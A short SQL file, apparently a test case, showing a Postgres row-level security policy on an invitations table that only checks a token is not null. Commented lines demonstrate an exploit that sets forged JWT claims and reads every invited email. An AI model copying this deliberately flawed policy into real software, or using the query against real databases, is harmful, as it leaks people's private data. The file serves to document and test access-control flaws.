-- Everybody lists all open invitations: the policy for the invited checks only that there is a token.
-- about: invitations
-- as: hf_recruiting_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-4000-8000-000000000001"}';
-- exploit: SELECT email FROM hire.invitations;
-- shows: secret@example.com
CREATE POLICY invited ON hire.invitations FOR SELECT USING (token IS NOT NULL);
